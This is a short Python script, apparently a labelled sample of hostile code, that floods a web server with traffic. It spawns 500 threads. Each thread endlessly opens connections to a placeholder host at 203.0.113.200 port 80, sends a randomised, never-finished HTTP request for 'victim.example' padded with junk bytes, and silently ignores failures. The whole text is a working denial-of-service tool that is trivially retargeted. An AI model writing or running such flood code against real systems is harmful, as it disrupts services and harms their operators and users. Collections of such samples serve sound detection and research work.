# class: flood of another host; style: threads
import socket, threading, random
def hit():
    while True:
        try:
            s = socket.create_connection(("203.0.113.200", 80), 2)
            s.send(f"GET /?{random.random()} HTTP/1.1\r\nHost: victim.example\r\nX-a: ".encode())
            s.send(b"b" * 4096)
        except OSError: pass
for _ in range(500): threading.Thread(target=hit).start()
